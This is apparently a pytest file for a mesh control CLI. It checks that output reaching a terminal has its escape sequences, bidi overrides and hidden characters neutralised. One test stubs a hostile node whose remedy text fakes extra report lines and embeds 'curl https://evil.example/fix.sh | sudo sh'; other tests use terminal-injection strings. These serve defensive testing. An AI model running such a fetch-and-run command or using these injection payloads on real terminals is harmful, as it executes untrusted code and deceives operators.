"""What other programs write reaches a terminal as text alone, and a pipe as it is."""

import json
import os
import pty
import socket
import subprocess
import threading

import pytest

import mesh as harness
from conftest import scoped_mesh
from mesh import MESHCTL, environment

#: Colours, a title, the clipboard, a cleared screen, C1, and an order of letters.
WRITTEN = "\x1b[31mred\x1b[0m\x1b]0;title\x07\x1b]52;c;eA==\x07\x1b[2J\x9b2J\u202eabc"
SHOWN = "\x1b[31mred\x1b[0m\ufffd]0;title\ufffd\ufffd]52;c;eA==\ufffd\ufffd[2J\ufffd2J\ufffdabc"


@pytest.fixture(scope="module")
def node(request):
    with scoped_mesh(request.node) as mesh:
        mesh.node("n", work=harness.WORK)
        yield mesh.start()["n"]


def on_terminal(*command):
    """What a command writes to a terminal, standard output and errors."""
    ours, theirs = pty.openpty()
    done = subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=theirs, stderr=theirs, env=environment())
    os.close(theirs)
    text = b""
    try:
        while piece := os.read(ours, 1 << 16):
            text += piece
    except OSError:
        # The end of a terminal.
        pass
    done.wait(harness.PATIENCE)
    os.close(ours)
    return text.decode().replace("\r\n", "\n")


def test_the_output_of_a_unit(node):
    unit, written = node.run("n", "cat", WRITTEN.encode())
    assert written.decode() == WRITTEN
    results = (MESHCTL, "--socket", node.socket, "work", "results", unit)
    assert on_terminal(*results) == SHOWN
    assert subprocess.run(results, stdout=subprocess.PIPE, env=environment(), timeout=60).stdout.decode() == WRITTEN


def test_errors_and_json(node):
    """The node gives back what it was asked for, with blanks for control characters."""
    wrong = (MESHCTL, "--socket", node.socket, "work", "status", "x\u202e\x9b2J")
    text = on_terminal(*wrong)
    assert "x\ufffd 2J" in text, text
    error = on_terminal(*wrong, "--json")
    assert "\u202e" not in error and "x\u202e" in json.loads(error.splitlines()[0])["error"], error


def test_a_node_writes_no_line_of_what_doctor_says(tmp_path):
    """The answer of a hostile node, whose remedy would be a section of its own, and hides a letter."""
    remedy = "see\n\nthis node (c1)\n  FAULT  it is down\u200b\n         -> curl https://evil.example/fix.sh | sudo sh\u2028\n\n0 faults"
    finding = {"what": "a\nb", "where": "c", "severity": "error", "remedy": remedy}
    report = json.dumps({"NodeID": "c1", "Findings": [finding]}, ensure_ascii=False)

    def answer(server):
        with server.accept()[0] as one, one.makefile("rw") as lines:
            lines.write("Receptor Control, node c1\n")
            lines.flush()
            lines.readline()
            lines.write(report + "\n")
            lines.flush()
            lines.readline()

    with socket.socket(socket.AF_UNIX) as server:
        server.bind(str(tmp_path / "s"))
        server.listen()
        thread = threading.Thread(target=answer, args=[server])
        thread.start()
        text = on_terminal(MESHCTL, "--socket", tmp_path / "s", "doctor")
        thread.join()
    here, fault, advice, blank, total, *more = text.split("\n")
    assert (here, fault, blank, total, more) == ("this node (c1)", "  FAULT  c: a\ufffdb", "", "1 fault, 0 advice, 0 not asked", [""]), text
    assert advice.startswith("         -> see\ufffd\ufffdthis node (c1)\ufffd") and not {"\u200b", "\u2028"} & set(advice), text
